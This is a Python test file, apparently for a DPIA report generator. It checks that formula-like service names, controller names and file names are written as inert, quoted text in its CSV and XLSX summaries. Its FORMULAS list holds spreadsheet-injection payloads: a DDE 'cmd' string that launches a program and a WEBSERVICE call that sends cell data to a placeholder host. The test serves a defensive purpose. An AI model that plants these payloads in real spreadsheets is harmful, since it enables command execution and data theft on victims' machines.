"""Hostile inputs and faults, each tried for real: formulas in summaries, bomb templates, odd file
names, killed processes, output-side errors. Every case ends with a documented exit code, no
traceback, no hang, and nothing lost."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
from conftest import SAMPLES, RunDpia

MINIMAL = (SAMPLES / "minimal.yaml").read_text(encoding="utf-8")


def answers_named(service: str, controller: str) -> str:
    """The minimal sample with the service and controller names replaced (YAML-quoted)."""
    import json

    text = MINIMAL.replace(
        "name: Prise de rendez-vous du vaccinodrome départemental", f"name: {json.dumps(service)}", 1
    )
    return text.replace("name: Département de Loire-Exemple (fictif)", f"name: {json.dumps(controller)}", 1)


# -- spreadsheet formulas ------------------------------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.invalid/?"&A2)', "\t=1+1", "\r=2+2", "+3", "-4", "@SUM(1)"]


def test_summary_cells_holding_formulas_stay_text(run_dpia: RunDpia, tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    names = []
    for number, formula in enumerate(FORMULAS):
        names.append(f"f{number}.yaml")
        (inputs / names[-1]).write_text(answers_named(formula, formula), encoding="utf-8")
    # File names that read as formulas; named on the command line, they are the "file" cell as given.
    formula_names = ["-x.yaml", "\t=1+1.yaml", "\r=2.yaml", "=3.yaml", "@4.yaml"]
    for name in formula_names:
        (inputs / name).write_text(MINIMAL, encoding="utf-8")
    result = run_dpia("batch", "-o", "../out", "-j", "1", "--formats", "json", "--", *names, *formula_names, cwd=inputs)
    assert result.returncode == 0, result.stdout + result.stderr
    out = tmp_path / "out"

    with open(out / "summary.csv", encoding="utf-8", newline="") as handle:
        from_csv = list(csv.DictReader(handle))
    sheet = openpyxl.load_workbook(out / "summary.xlsx")["summary"]
    header = [cell.value for cell in sheet[1]]
    from_xlsx = [{key: cell.value for key, cell in zip(header, row, strict=True)} for row in sheet.iter_rows(min_row=2)]
    ordinary = "Prise de rendez-vous du vaccinodrome départemental"
    for rows in (from_csv, from_xlsx):
        assert len(rows) == len(FORMULAS) + len(formula_names)
        by_file = {str(row["file"]): row for row in rows}
        for name, formula in zip(names, FORMULAS, strict=True):
            # Answers are stripped when loaded; what remains reads back behind one quote.
            assert by_file[name]["service"] == by_file[name]["controller"] == "'" + formula.strip()
        for name in formula_names:
            assert "'" + name in by_file, sorted(by_file)
            assert by_file["'" + name]["service"] == ordinary
        assert by_file["'-x.yaml"]["outputs"] == "'-x.score.json"
        assert all(str(row["disappearance_initial"]).isdigit() for row in rows)
    # Not one cell of the workbook is a formula, and levels stay numbers.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert all(isinstance(row["disappearance_initial"], int) for row in from_xlsx)
